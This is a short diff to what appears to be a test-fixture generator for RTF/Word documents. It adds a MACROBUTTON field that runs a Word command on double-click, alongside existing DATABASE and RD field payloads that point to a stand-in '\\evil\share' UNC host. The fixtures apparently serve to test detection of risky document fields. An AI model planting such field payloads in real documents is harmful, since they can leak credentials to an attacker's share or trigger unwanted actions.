@@ -60,6 +60,8 @@ FIELDS_RTF = "\n".join([
     r"{\fldrslt DATABASE RESULT}} end.\par",
     r'\pard Index: {\field{\*\fldinst QUOTE "ABCDEFGHIJKLMNOPQRSTUVWXYZ"}'
     r"{\fldrslt RD RESULT}} end.\par",
+    r'\pard Button: {\field{\*\fldinst QUOTE "macro-slot-0123456789012"}'
+    r"{\fldrslt BUTTON RESULT}} end.\par",
     "}", ""])
 #: HYPERLINK fields to every kind of target (LibreOffice writes a .doc with the
 #: hyperlink objects Word keeps in the Data stream; it turns the UNC and file: targets
@@ -116,7 +118,9 @@ INCLUDEPICTURE = 'INCLUDEPICTURE "http://example.invalid/p.png" \\d'
 PATCHES = {'QUOTE "0123456789012345678901234567890123456789"': INCLUDEPICTURE,
            'QUOTE "abcdefghijklmnopqrstuvwxyz0123456789"':
            'DATABASE \\d "\\\\evil\\share\\names.mdb" \\s "x" ',
-           'QUOTE "ABCDEFGHIJKLMNOPQRSTUVWXYZ"': 'RD "\\\\evil\\share\\chapter2.doc"  \\f'}
+           'QUOTE "ABCDEFGHIJKLMNOPQRSTUVWXYZ"': 'RD "\\\\evil\\share\\chapter2.doc"  \\f',
+           # runs a macro or a Word command on a double click; shows its last words
+           'QUOTE "macro-slot-0123456789012"': "MACROBUTTON FileOpen Open it now"}
 
 
 # ------------------------------------------------------------------------ LibreOffice
